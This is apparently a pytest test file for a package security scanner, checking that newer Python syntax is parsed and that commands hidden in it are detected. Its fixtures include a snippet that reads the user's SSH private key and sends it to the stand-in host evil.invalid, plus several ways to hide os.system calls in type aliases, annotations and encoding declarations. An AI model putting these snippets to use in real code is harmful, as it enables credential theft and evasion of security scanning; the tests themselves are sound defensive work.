"""Source that needs a newer Python than the server's: read whole, or held."""

from __future__ import annotations

import sys
from collections.abc import Iterable
from pathlib import Path

import pytest

from lumos.package.findings import Finding
from sandbox.interpreter import interpreters
from security_scan.engine import Limits, ScanReport, scan_isolated
from tests.scan.samples import write

NEWER = [python for python in interpreters() if python.minor > f"3.{sys.version_info.minor}"]
NEWEST = NEWER[-1].executable if NEWER else None
needs_newer = pytest.mark.skipif(not NEWER, reason="needs a Python newer than this one")

THEFT = """
import pathlib, urllib.request

def hello(name: str) -> str:
    key = pathlib.Path.home().joinpath(".ssh", "id_rsa").read_bytes()
    urllib.request.urlopen("https://evil.invalid/", key)
    return name
"""
SHELL = "import subprocess\ndef f(x): subprocess.call(x, shell=True)\n"
ALIASES = "".join(f"type T{n} = int\n" for n in range(45))
#: What Python 3.12 and 3.13 can read and 3.11 cannot.
SYNTAX = {
    "type aliases": ALIASES,
    "one generic alias": "type Pair[A, *B, **C] = tuple[A, *B]\n",
    "a generic function": "def first[T: (int, str)](items: list[T]) -> T:\n    return items[0]\n",
    "a generic class": "class Box[T]:\n    def get(self) -> T: ...\n",
    "quotes within quotes": "def g(d: dict[str, str]) -> str:\n    return f'{d['a']}'\n",
    "a backslash in a field": 'def g(d: list[str]) -> str:\n    return f"{"\\n".join(d)}"\n',
    "a comment in a field": 'def g(d: str) -> str:\n    return f"{\n  d  # the name\n    }"\n',
}


def read(folder: Path, *, newest: Path | None = NEWEST, limits: Limits | None = None) -> ScanReport:
    return scan_isolated(folder, newest=newest, limits=limits)


def of(report: ScanReport, rule: str, file: str = "") -> list[Finding]:
    return [f for f in report.findings if f.rule == rule and file in ("", f.file)]


def uses(report: ScanReport, file: str) -> set[int]:
    """The lines of a file in which a command of the system is seen."""
    return {seen.line for seen in report.detected["system-command"] if seen.file == file}


def modules(sources: Iterable[str], ending: str = "") -> dict[str, str]:
    """One module for each source: a scan of them all costs little more than of one."""
    return {f"module_{number}": source + ending for number, source in enumerate(sources)}


def path_of(source: str, sources: Iterable[str]) -> str:
    """Where ``modules`` puts it."""
    return f"acme_tool/module_{list(sources).index(source)}.py"


@pytest.fixture(scope="module")
def thefts(tmp_path_factory: pytest.TempPathFactory) -> ScanReport:
    """Of a package that does the same harm after each kind of newer syntax."""
    folder = tmp_path_factory.mktemp("thefts")
    return read(write(folder, **modules(SYNTAX.values(), THEFT + SHELL)))


@needs_newer
@pytest.mark.parametrize("syntax", SYNTAX.values(), ids=SYNTAX)
def test_every_scanner_reads_newer_source_whole_and_names_the_right_lines(
    syntax: str, thefts: ScanReport
) -> None:
    file = path_of(syntax, SYNTAX.values())
    first = syntax.count("\n") + THEFT.count("\n")
    assert not of(thefts, "files/unparsable")
    assert {f.line for f in of(thefts, "bandit/B602", file)} == {first + 2}
    assert first + 2 in uses(thefts, file)
    assert [f.line for f in of(thefts, "malware/data-theft", file)] == [first - 1]
    assert of(thefts, "malware/data-theft", file)[0].blocking


@needs_newer
def test_honest_newer_source_loses_nothing(tmp_path: Path) -> None:
    report = read(write(tmp_path, **modules(SYNTAX.values())))
    assert (report.level, report.score, report.findings) == ("safe", 100, ())


HIDDEN = [
    "type T = __import__('os').system('id')\n",
    "def f[T: __import__('os').system('id')](x: T) -> T:\n    return x\n",
    "class C[T: __import__('os').system('id')]:\n    x: T\n",
    "type R = __import__('os')\nR.__value__.system('id')\ndef g(): return R.system('id')\n",
]


@pytest.fixture(scope="module")
def hidden(tmp_path_factory: pytest.TempPathFactory) -> ScanReport:
    """Of a package that hides a command in each kind of newer syntax."""
    return read(write(tmp_path_factory.mktemp("hidden"), **modules(HIDDEN)))


@needs_newer
@pytest.mark.parametrize("hiding", HIDDEN)
def test_what_runs_inside_newer_syntax_is_seen(hiding: str, hidden: ScanReport) -> None:
    assert not of(hidden, "files/unparsable")
    assert uses(hidden, path_of(hiding, HIDDEN))


TYPED = [
    "import os\nx: os.system('id')\n",
    "import os\ndef f(a: os.system('id')): ...\n",
    "import os\ndef f() -> os.system('id'): ...\n",
    "import os\nisinstance(1, (int, os.system('id')))\n",
    "import os\nmatch os:\n    case other:\n        other.system('id')\n",
    "TYPE_CHECKING = True\nif TYPE_CHECKING:\n    import os\n    os.system('id')\n",
]


@pytest.fixture(scope="module")
def typed(tmp_path_factory: pytest.TempPathFactory) -> ScanReport:
    """Of a package that runs a command in each place where types are named."""
    return read(write(tmp_path_factory.mktemp("typed"), **modules(TYPED)))


@pytest.mark.parametrize("hiding", TYPED)
def test_what_runs_where_types_are_named_is_seen(hiding: str, typed: ScanReport) -> None:
    assert uses(typed, path_of(hiding, TYPED))


@pytest.fixture(scope="module")
def held(tmp_path_factory: pytest.TempPathFactory) -> ScanReport:
    """Of a package of newer syntax where there is no newer Python."""
    folder = tmp_path_factory.mktemp("held")
    return read(write(folder, **modules(SYNTAX.values(), THEFT)), newest=None)


@pytest.mark.parametrize("syntax", SYNTAX.values(), ids=SYNTAX)
@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python reads it")
def test_without_a_newer_python_it_is_held_and_says_why(syntax: str, held: ScanReport) -> None:
    (finding,) = of(held, "files/unparsable", path_of(syntax, SYNTAX.values()))
    assert finding.blocking
    assert "Python 3.11" in finding.message
    assert "moderator" in finding.fix


UNREADABLE = {
    "broken syntax": b"x = = 1\n",
    "forty-five broken lines": b"y = = 1\n" * 45 + b"import os\nos.system('id')\n",
    "Python 2": b"print 'hello'\n",
    "Python 2 exceptions": b"try:\n    pass\nexcept ValueError, e:\n    raise e, 'x'\n",
    "a null byte": b"x = 1\0\nimport os\n",
    "a null byte in a comment": b"# \0\nx = 1\n",
    "UTF-16": "\ufeffx = 1\n".encode("utf-16-le"),
    "bytes that are not UTF-8": b"x = '\xe9'\n",
    "bytes that are not ASCII": b"# coding: ascii\nx = '\xc3\xa9'\n",
    "an unknown encoding": b"# coding: nonsense\nx = 1\n",
    "an encoding that is no text": b"# coding: rot13\nk = 1\n",
    "two encodings": b"\xef\xbb\xbf# coding: latin-1\nx = 1\n",
    "an encoding that hides code": b"# coding: raw_unicode_escape\n#\\u000aimport os\n",
    "deep brackets": b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\n",
    "deep minus signs": b"x = " + b"-" * 200_000 + b"1\n",
    "deep indentation": b"".join(b" " * n + b"if 1:\n" for n in range(150)) + b" " * 150 + b"x\n",
    "no end": b"x = '''\nimport os\n",
    "only a form of a newer Python": b"x = ?1\n",
}


@pytest.mark.parametrize("suffix", ["py", "pyw", "pyi"])
def test_source_that_no_python_reads_whole_goes_no_further(suffix: str, tmp_path: Path) -> None:
    """All in one package: each file has its own finding."""
    write(tmp_path)
    for name, source in UNREADABLE.items():
        (tmp_path / "acme_tool" / f"{name}.{suffix}").write_bytes(source)
    report = read(tmp_path)
    assert all(finding.why and finding.fix for finding in report.blocking)
    named = {Path(finding.file).stem for finding in report.blocking}
    assert named == set(UNREADABLE)


def test_a_module_that_is_too_large_to_parse_goes_no_further(tmp_path: Path) -> None:
    report = read(write(tmp_path, core="x = 1\n" * 1000), limits=Limits(parse_bytes=100))
    assert {f.rule for f in report.blocking} == {"files/too-large"}


def test_a_very_long_line_is_read_to_its_end(tmp_path: Path) -> None:
    line = "x = 1; " * 100_000 + "import os; os.system(input())\n"
    report = read(write(tmp_path, core=line))
    assert report.blocking or "system-command" in report.detected


def test_honest_source_in_odd_forms_is_read(tmp_path: Path) -> None:
    sources = [
        b"",
        b"\xef\xbb\xbfx = 1\n",
        b"# coding: latin-1\nx = '\xe9'\n",
        b"x = 1\r\ny = 2\r\n",
        b"x = 1\ry = 2\r",
        b"x = 1\n\x0c\ny = 2\n",
        b"x = 1",
    ]
    package = write(tmp_path) / "acme_tool"
    for number, source in enumerate(sources):
        for suffix in ("py", "pyw", "pyi"):
            (package / f"{suffix}{number}.{suffix}").write_bytes(source)
    report = read(tmp_path)
    assert report.findings == ()
    assert report.files >= 3 * len(sources)


def test_text_that_is_run_as_code_and_cannot_be_parsed_goes_no_further(tmp_path: Path) -> None:
    text = "x = = 1\n" * 45 + "import os\nos.system('id')\n"
    report = read(write(tmp_path, core=f"\n\nexec({text!r})\n"))
    assert [(f.line, f.blocking) for f in of(report, "files/unparsable")] == [(3, True)]


@needs_newer
def test_text_that_is_run_as_newer_code_is_read(tmp_path: Path) -> None:
    report = read(write(tmp_path, core=f"exec({ALIASES + THEFT + 'hello(1)'!r})\n"))
    assert not of(report, "files/unparsable")
    assert of(report, "malware/data-theft")


def test_a_newer_python_that_cannot_scan_leaves_the_report_of_our_own(tmp_path: Path) -> None:
    (tmp_path / "broken").write_text("#!/bin/sh\nexit 1\n")
    (tmp_path / "broken").chmod(0o755)
    write(tmp_path / "package", core="x = = 1\n" + SHELL)
    for newest in (tmp_path / "broken", tmp_path / "missing"):
        report = read(tmp_path / "package", newest=newest)
        assert of(report, "files/unparsable")
        assert of(report, "permissions/undeclared-system-command") or report.detected


@needs_newer
def test_the_newer_python_scans_within_the_same_limits(tmp_path: Path) -> None:
    write(tmp_path, core=ALIASES, slow="x = (" + "1," * 300_000 + ")")
    report = read(tmp_path, limits=Limits(step_seconds=0.05))
    assert {f.file for f in of(report, "scan/could-not-finish")} == {"acme_tool/slow.py"}
    assert report.blocking


@needs_newer
def test_nothing_of_the_package_is_run_by_the_newer_python(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    trap = f"open({str(marker)!r}, 'w').close()\n"
    write(tmp_path, core=ALIASES + trap)
    for name in ("sitecustomize", "usercustomize", "json", "ast", "bandit", "security_scan"):
        (tmp_path / f"{name}.py").write_text(trap)
    read(tmp_path)
    assert not marker.exists()
